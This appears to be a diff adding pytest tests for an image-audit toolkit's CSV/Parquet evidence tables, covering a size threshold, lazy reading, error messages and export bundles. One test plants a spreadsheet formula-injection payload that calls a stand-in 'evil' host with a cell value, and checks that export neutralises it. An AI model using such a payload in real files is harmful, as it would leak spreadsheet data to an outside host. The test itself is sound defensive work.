@@ -1,0 +1,150 @@
+"""Per-image evidence: CSV for small audits, Parquet from the threshold on, one lazy reader."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from auditkit import evidence
+from auditkit._export import file_audience
+from auditkit.cli import main
+from auditkit.evidence import (
+    PARQUET_MIN_ROWS,
+    evidence_format,
+    export_csv,
+    find_table,
+    open_table,
+    read_table,
+    write_table,
+)
+from auditkit.exceptions import DataError
+from auditkit.export import export_audit
+from auditkit.fairness import operating_points_from_audit
+
+
+@pytest.fixture
+def fitzpatrick_rows(data_root: Path) -> pd.DataFrame:
+    """The first 3,000 rows of the real Fitzpatrick 17k table, as text, plus a float column."""
+    table = pd.read_csv(data_root / "fitzpatrick17k" / "metadata.csv", dtype=str,
+                        keep_default_na=False).head(3000)
+    table["prob_malignant"] = np.random.default_rng(0).random(len(table))
+    return table
+
+
+def test_threshold_is_a_documented_setting(monkeypatch: pytest.MonkeyPatch) -> None:
+    assert PARQUET_MIN_ROWS == 100_000
+    assert evidence_format(PARQUET_MIN_ROWS - 1) == "csv"
+    assert evidence_format(PARQUET_MIN_ROWS) == "parquet"
+    monkeypatch.setenv("AUDITKIT_PARQUET_MIN_ROWS", "0")
+    assert evidence_format(5) == "parquet"
+    monkeypatch.setenv("AUDITKIT_PARQUET_MIN_ROWS", "many")
+    with pytest.raises(DataError, match="AUDITKIT_PARQUET_MIN_ROWS must be a whole number of "
+                                        "rows; got 'many' instead."):
+        evidence_format(5)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "parquet"])
+def test_real_table_round_trip_columns_pages_batches(tmp_path: Path, fitzpatrick_rows, fmt):
+    path = write_table(fitzpatrick_rows, tmp_path, "predictions", fmt=fmt)
+    assert path.name == f"predictions.{fmt}" and find_table(tmp_path, "predictions") == path
+    table = open_table(tmp_path, "predictions")
+    assert table.format == fmt and table.n_rows == 3000
+    assert table.columns == list(fitzpatrick_rows.columns)
+    cols = ["fitzpatrick", "prob_malignant"]
+    got = table.read(cols)
+    assert list(got.columns) == cols
+    np.testing.assert_allclose(got["prob_malignant"], fitzpatrick_rows["prob_malignant"])
+    text = table.read(["fitzpatrick", "label"], as_text=True)
+    pd.testing.assert_frame_equal(text.astype(object),
+                                  fitzpatrick_rows[["fitzpatrick", "label"]].astype(object),
+                                  check_dtype=False)
+    page = table.page(1234, 50, columns=["label"])
+    assert page["label"].tolist() == fitzpatrick_rows["label"].iloc[1234:1284].tolist()
+    batches = list(table.iter_batches(["label"], batch_size=700))
+    assert [len(b) for b in batches] == [700, 700, 700, 700, 200]
+    assert pd.concat(batches)["label"].tolist() == fitzpatrick_rows["label"].tolist()
+
+
+def test_one_table_per_stem_and_csv_export_neutralises_formulas(tmp_path: Path,
+                                                                 fitzpatrick_rows) -> None:
+    frame = fitzpatrick_rows.copy()
+    frame.loc[7, "label"] = '=HYPERLINK("http://evil/?"&A1)'
+    write_table(frame, tmp_path, "predictions", fmt="csv")
+    write_table(frame, tmp_path, "predictions", fmt="parquet")
+    assert not (tmp_path / "predictions.csv").exists()  # never two versions of one table
+    assert read_table(tmp_path, "predictions", columns=["label"])["label"][7].startswith("=")
+    out = export_csv(tmp_path, "predictions", dest=tmp_path / "export.csv")
+    back = pd.read_csv(out, dtype=str, keep_default_na=False)
+    assert len(back) == 3000 and back["label"][7] == "'" + frame.loc[7, "label"]
+    assert back["label"][8] == frame["label"][8]
+
+
+def test_bad_tables_say_what_was_expected(tmp_path: Path, fitzpatrick_rows) -> None:
+    write_table(fitzpatrick_rows, tmp_path, "predictions", fmt="parquet")
+    with pytest.raises(DataError, match=r"predictions.parquet: expected columns \['audience'\]; "
+                                        r"found \['image'"):
+        read_table(tmp_path, "predictions", columns=["audience"])
+    with pytest.raises(DataError, match="Expected membership.parquet or membership.csv in"):
+        open_table(tmp_path, "membership")
+    (tmp_path / "notes.txt").write_text("x")
+    with pytest.raises(DataError, match="Expected a .csv or .parquet per-image table; got "
+                                        "'notes.txt' instead."):
+        open_table(tmp_path / "notes.txt")
+    (tmp_path / "broken.parquet").write_bytes(b"not parquet at all")
+    with pytest.raises(DataError, match="broken.parquet: expected a Parquet file"):
+        open_table(tmp_path / "broken.parquet")
+    with pytest.raises(DataError, match="Evidence format must be one of"):
+        write_table(fitzpatrick_rows, tmp_path, "x", fmt="xlsx")
+
+
+def test_audit_writes_parquet_from_the_threshold_and_says_so(
+        tmp_path: Path, tiny_dataset_dir: Path, brightness_model_dir: Path,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    args = ["audit", "--model", str(brightness_model_dir), "--dataset", str(tiny_dataset_dir),
+            "--n-boot", "100", "--device", "cpu", "--checks", "performance,fairness"]
+    assert main([*args, "--out", str(tmp_path / "small")]) == 0
+    monkeypatch.setenv("AUDITKIT_PARQUET_MIN_ROWS", "10")  # the 24-image audit is "large"
+    assert main([*args, "--out", str(tmp_path / "large")]) == 0
+    small = json.loads((tmp_path / "small" / "audit.json").read_text())
+    large = json.loads((tmp_path / "large" / "audit.json").read_text())
+    assert small["evidence_files"] == {"predictions": {"file": "predictions.csv",
+                                                       "format": "csv", "rows": 24}}
+    assert large["evidence_files"] == {"predictions": {"file": "predictions.parquet",
+                                                       "format": "parquet", "rows": 24}}
+    assert not (tmp_path / "large" / "predictions.csv").exists()
+    a = read_table(tmp_path / "small", "predictions")
+    b = read_table(tmp_path / "large", "predictions")
+    assert list(a.columns) == list(b.columns)
+    for col in a.columns:
+        if col.startswith("prob_"):
+            np.testing.assert_allclose(a[col], b[col], rtol=1e-12)
+        else:
+            assert a[col].astype(str).tolist() == b[col].astype(str).tolist(), col
+    # the release bundle keeps the format, and names the file in its manifest
+    manifest = export_audit(tmp_path / "large", tmp_path / "bundle")
+    assert "predictions.parquet" in manifest["files"]
+    assert len(read_table(tmp_path / "bundle", "predictions")) == 24
+    # the Parquet table states its audience in every row, as the CSV does (issue 15)
+    assert file_audience(tmp_path / "large" / "predictions.parquet") == "release"
+    assert file_audience(tmp_path / "bundle" / "predictions.parquet") == "release"
+    inside = export_audit(tmp_path / "large", tmp_path / "inside", audience="in-house")
+    assert inside["files"]["predictions.parquet"]["audience"] == "release"
+    # the threshold view reads the same numbers from either format
+    attribute = next(iter(large["dataset"]["attributes"]))
+    positive = large["model"]["positive_class"]
+    pa = operating_points_from_audit(tmp_path / "small", attribute=attribute,
+                                     positive_class=positive, threshold=0.5)
+    pb = operating_points_from_audit(tmp_path / "large", attribute=attribute,
+                                     positive_class=positive, threshold=0.5)
+    assert pa is not None and pb is not None and len(pa) >= 1 and pa["n"].sum() == 24
+    pd.testing.assert_frame_equal(pa, pb)
+    assert operating_points_from_audit(tmp_path / "large", attribute="nope",
+                                       positive_class=positive, threshold=0.5) is None
+
+
+def test_module_is_small_and_public() -> None:
+    assert set(evidence.__all__) >= {"write_table", "read_table", "open_table", "export_csv"}
